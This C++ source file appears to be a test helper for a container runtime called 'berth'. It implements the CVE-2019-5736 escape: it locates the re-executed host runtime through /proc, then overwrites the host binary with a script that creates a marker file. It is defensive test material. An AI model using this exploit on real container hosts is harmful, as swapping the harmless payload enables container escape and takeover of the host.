// exe-attack FIFO MARKER: the CVE-2019-5736 attack, run inside a container.
//
// The container's /bin/sh is a script "#!/proc/self/exe --log=FIFO": when
// the host runs a process from it (berth exec CT /bin/sh, or an init whose
// process is /bin/sh), the kernel executes the host's runtime binary again,
// inside the container, as a new dumpable process. That berth opens its
// --log FIFO for writing and blocks there until we read, which makes the
// attack deterministic instead of a race. We then:
//   1. find that process by the FIFO in its cmdline and open /proc/PID/exe;
//   2. let it finish (read the FIFO) and wait until no one runs the binary;
//   3. reopen the exe for writing and replace it with a script that creates
//      MARKER, which runs as soon as the host starts "berth" again.
// Lines on stdout say how far it got: "exe=TARGET", then "OVERWRITTEN" or
// "write-refused: REASON"; "no-target" when nothing turned up.
// Linked statically and copied into test rootfs.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <string>

namespace {

std::string slurp(const std::string& path) {
    int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return {};
    std::string s;
    char buf[4096];
    for (ssize_t n; (n = read(fd, buf, sizeof buf)) > 0;) s.append(buf, static_cast<size_t>(n));
    close(fd);
    return s;
}

void nap_ms(long ms) {
    timespec t{ms / 1000, (ms % 1000) * 1000000};
    nanosleep(&t, nullptr);
}

// The pid whose command line names the FIFO (the runtime binary, re-run).
pid_t find_target(const std::string& fifo) {
    DIR* d = opendir("/proc");
    if (!d) return 0;
    pid_t found = 0;
    while (dirent* e = readdir(d)) {
        pid_t pid = static_cast<pid_t>(std::atoi(e->d_name));
        if (pid <= 0 || pid == getpid()) continue;
        std::string cmd = slurp("/proc/" + std::string(e->d_name) + "/cmdline");
        for (char& c : cmd)
            if (c == '\0') c = ' ';
        if (cmd.find("--log=" + fifo) != std::string::npos) {
            found = pid;
            break;
        }
    }
    closedir(d);
    return found;
}

} // namespace

int main(int argc, char** argv) {
    if (argc != 3) {
        std::fprintf(stderr, "usage: exe-attack FIFO MARKER\n");
        return 2;
    }
    const std::string fifo = argv[1], marker = argv[2];
    setvbuf(stdout, nullptr, _IONBF, 0);
    if (mkfifo(fifo.c_str(), 0666) < 0 && errno != EEXIST) {
        std::printf("mkfifo failed: %s\n", std::strerror(errno));
        return 1;
    }
    std::printf("waiting\n");

    // 1. The runtime binary, blocked opening the FIFO.
    pid_t pid = 0;
    int exe = -1;
    for (int i = 0; i < 3000 && exe < 0; ++i) {   // up to 30 s
        if (!pid) pid = find_target(fifo);
        if (pid) exe = open(("/proc/" + std::to_string(pid) + "/exe").c_str(), O_PATH | O_CLOEXEC);
        if (exe < 0) nap_ms(10);
    }
    if (exe < 0) {
        std::printf("no-target%s\n", pid ? " (found, exe not openable)" : "");
        return 1;
    }
    char target[4096] = {};
    ssize_t n = readlink(("/proc/self/fd/" + std::to_string(exe)).c_str(), target, sizeof target - 1);
    std::printf("exe=%s\n", n > 0 ? target : "?");

    // 2. Let it run to its end, then wait for the binary to be free.
    int rd = open(fifo.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    for (int i = 0; i < 1000 && kill(pid, 0) == 0; ++i) {
        char buf[512];
        while (rd >= 0 && read(rd, buf, sizeof buf) > 0) {
        }
        nap_ms(10);
    }

    // 3. Overwrite it. ETXTBSY lasts while any process (the host's berth
    //    exec, say) still runs the file.
    std::string self = "/proc/self/fd/" + std::to_string(exe);
    for (int i = 0; i < 1000; ++i) {   // up to 10 s
        int w = open(self.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (w >= 0) {
            std::string payload = "#!/bin/sh\ntouch " + marker + "\n";
            ssize_t put = write(w, payload.data(), payload.size());
            close(w);
            std::printf("OVERWRITTEN (%zd bytes)\n", put);
            return 0;
        }
        if (errno != ETXTBSY) {
            std::printf("write-refused: %s\n", std::strerror(errno));
            return 0;
        }
        nap_ms(10);
    }
    std::printf("write-refused: still busy\n");
    return 0;
}
